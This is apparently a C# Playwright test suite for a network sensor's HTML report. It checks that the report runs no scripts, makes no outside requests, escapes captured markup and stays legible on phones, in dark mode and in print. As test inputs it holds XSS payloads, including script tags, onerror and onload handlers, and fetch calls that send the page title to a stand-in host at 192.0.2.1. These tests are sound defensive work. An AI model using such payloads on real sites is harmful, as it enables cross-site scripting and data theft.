using System.Text.Json;
using Microsoft.Playwright;
using Sensor.Tests.Captures;
using Sensor.Tests.Commands;

namespace Sensor.Tests.Report;

/// <summary>The report in a real browser: quiet, closed, harmless, legible on a phone, in the dark and on paper.</summary>
public sealed class ReportBrowserTests(Browser browser) : TemporaryFolder, IClassFixture<Browser>
{
    private const string Hostile = "</style></title><script>document.title='run'</script><img src=http://192.0.2.1/x onerror=document.title='run'>\"'`&lt;\u202e";

    public static TheoryData<string> Pages() => ["tour", "markup", "made", "quiet"];

    private string Make(string page)
    {
        var path = PathOf($"{page}.html");
        if (page is "made")
            File.WriteAllText(path, ReportScene.Page(Hostile));
        else
            Replay(page is "markup" ? "telling/markup.pcapng" : page is "tour" ? "tour.pcapng" : "names/llmnr-own-names.pcapng", path);
        return path;
    }

    private static void Replay(string capture, string path)
    {
        var run = Replayed.Of(Path.Combine(Checkout.Captures, capture), "--all", "--report", path);
        Assert.Equal((0, ""), (run.Status, run.Error));
    }

    [Theory]
    [MemberData(nameof(Pages))]
    public async Task Asks_nobody_runs_nothing_and_complains_of_nothing(string name)
    {
        var path = Make(name);
        await using var opened = await browser.Open(path);
        await opened.Unfold();
        Assert.Empty(opened.Deeds);
        Assert.Equal([new Uri(path).AbsoluteUri], opened.Requests);
        Assert.Equal("Sensor report", await opened.Page.TitleAsync());
        Assert.Equal(0, await opened.Page.EvaluateAsync<int>("() => document.scripts.length + document.querySelectorAll('img,iframe,object,embed,link,form,input,base,image,foreignObject').length"));
        Assert.Equal(0, await opened.Page.EvaluateAsync<int>(
            "() => [...document.querySelectorAll('*')].filter(one => [...one.attributes].some(a => a.name.startsWith('on') || a.name == 'style' || (a.name == 'href' && !a.value.startsWith('#')))).length"));
        Assert.Equal(1, await opened.Page.EvaluateAsync<int>("() => document.styleSheets.length"));
    }

    [Fact]
    public async Task The_policy_would_stop_a_script_all_the_same()
    {
        var path = Make("tour");
        File.WriteAllText(path, File.ReadAllText(path).Replace("<main>",
            "<main><script>document.title='run'</script><img src=http://192.0.2.1/x>", StringComparison.Ordinal));
        await using var opened = await browser.Open(path);
        Assert.Equal("Sensor report", await opened.Page.TitleAsync());
        Assert.Contains(opened.Deeds, deed => deed.Contains("Content Security Policy", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Markup_from_the_wire_shows_as_text()
    {
        await using var opened = await browser.Open(Make("markup"));
        await opened.Unfold();
        var text = await opened.Page.EvaluateAsync<string>("() => document.body.textContent");
        Assert.All(
            (string[])["\"><img src=http://192.0.2.1/x onerror=alert(document.domain)>",
                "http://192.168.7.66/<script>fetch('http://192.0.2.1/'+document.title)</script>",
                "</style></title><svg onload=alert(2)>",
                    "// </script></textarea></pre><script>fetch('http://192.0.2.1/'+document.title)</script>", "\\u202e",
                    "return eval('\"DIRECT\"')"],
            shown => Assert.Contains(shown, text, StringComparison.Ordinal));
        Assert.DoesNotContain('\u202e', text);
    }

    [Theory]
    [MemberData(nameof(Pages))]
    public async Task Does_not_overflow_a_phone(string name)
    {
        await using var opened = await browser.Open(Make(name), width: 375);
        await opened.Unfold();
        Assert.True(await opened.Page.EvaluateAsync<int>("() => document.documentElement.scrollWidth") <= 375);
        // Nothing sticks out but what scrolls by itself.
        var wide = await opened.Page.EvaluateAsync<string[]>(
            "() => [...document.querySelectorAll('body *')].filter(one => !one.closest('.scroll') && one.getBoundingClientRect().right > 376).map(one => one.outerHTML.slice(0, 80))");
        Assert.Empty(wide);
    }

    [Theory]
    [InlineData("tour", false)]
    [InlineData("tour", true)]
    [InlineData("made", false)]
    [InlineData("made", true)]
    public async Task Every_text_stands_out_from_its_ground(string name, bool dark)
    {
        await using var opened = await browser.Open(Make(name), dark: dark);
        await opened.Unfold();
        Assert.Equal(dark, await opened.Page.EvaluateAsync<bool>("() => getComputedStyle(document.body).backgroundColor == 'rgb(18, 21, 27)'"));
        var faint = await opened.Page.EvaluateAsync<JsonElement>(Contrast);
        Assert.True(faint.GetProperty("looked").GetInt32() > 50);
        Assert.Empty(faint.GetProperty("faint").EnumerateArray().Select(text => text.GetString()));
    }

    [Fact]
    public async Task A_frame_number_leads_to_its_octets()
    {
        await using var opened = await browser.Open(Make("tour"));
        await opened.Page.Locator("a[href$='-f0-142']").First.ClickAsync();
        var frame = opened.Page.Locator("[id$='-f0-142']");
        Assert.True(await frame.IsVisibleAsync());
        await frame.Locator("summary").ClickAsync();
        var hex = await frame.Locator("pre").InnerTextAsync();
        Assert.Contains("0040  ", hex, StringComparison.Ordinal);
        Assert.True(hex.Split('\n').Length > 10);
        Assert.DoesNotContain("\\u000a", hex, StringComparison.Ordinal);
        Assert.Contains("GET /wpad.dat HTTP/1.1", await frame.Locator(".layers").InnerTextAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Prints()
    {
        await using var opened = await browser.Open(Make("tour"));
        var pdf = await opened.Page.PdfAsync(new() { Format = "A4", PrintBackground = false });
        Assert.StartsWith("%PDF-", System.Text.Encoding.ASCII.GetString(pdf, 0, 5), StringComparison.Ordinal);
        await opened.Page.EmulateMediaAsync(new() { Media = Media.Print });
        await opened.Page.SetViewportSizeAsync(690, 900);
        Assert.True(await opened.Page.EvaluateAsync<int>("() => document.documentElement.scrollWidth") <= 690);
        Keep("print.pdf", pdf);
        Keep("print.png", await opened.Page.ScreenshotAsync(new() { FullPage = true }));
    }

    [Theory]
    [MemberData(nameof(Pages))]
    public async Task Pictures_for_people(string name)
    {
        foreach (var (width, dark, view) in new[] { (1280, false, "light"), (1280, true, "dark"), (375, false, "phone") })
        {
            await using var opened = await browser.Open(Make(name), width, dark);
            var picture = await opened.Page.ScreenshotAsync(new() { FullPage = true });
            Assert.True(picture.Length > 10_000);
            Keep($"{name}-{view}.png", picture);
        }
    }

    /// <summary>Where SENSOR_SCREENSHOTS names a folder, what was seen is kept there.</summary>
    private static void Keep(string name, byte[] octets)
    {
        if (Environment.GetEnvironmentVariable("SENSOR_SCREENSHOTS") is { Length: > 0 } folder)
            File.WriteAllBytes(Path.Combine(folder, name), octets);
    }

    /// <summary>
    /// WCAG 2 contrast of every text against the nearest painted ground, at least 4.5 (SVG: against both grounds the page has).
    /// </summary>
    private const string Contrast =
        """
        () => {
          const parse = text => (text.match(/[\d.]+/g) || []).map(Number);
          const light = ([r, g, b]) => { const f = c => (c /= 255) <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4; return 0.2126 * f(r) + 0.7152 * f(g) + 0.0722 * f(b); };
          const ratio = (a, b) => { const [x, y] = [light(a), light(b)].sort((p, q) => q - p); return (x + 0.05) / (y + 0.05); };
          const ground = one => { for (; one; one = one.parentElement) { const c = parse(getComputedStyle(one).backgroundColor); if (c.length == 3 || (c.length == 4 && c[3] > 0)) return c; } return [255, 255, 255]; };
          const faint = []; let looked = 0;
          for (const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT); walker.nextNode();) {
            const one = walker.currentNode.parentElement;
            if (!walker.currentNode.data.trim() || one.localName == 'title' || one.getClientRects().length == 0) continue;
            const inDrawing = one.closest('svg');
            const colour = parse(inDrawing ? getComputedStyle(one).fill : getComputedStyle(one).color);
            looked++;
            if (ratio(colour, ground(one)) < 4.5) faint.push(one.outerHTML.slice(0, 100));
          }
          return { looked, faint };
        }
        """;
}
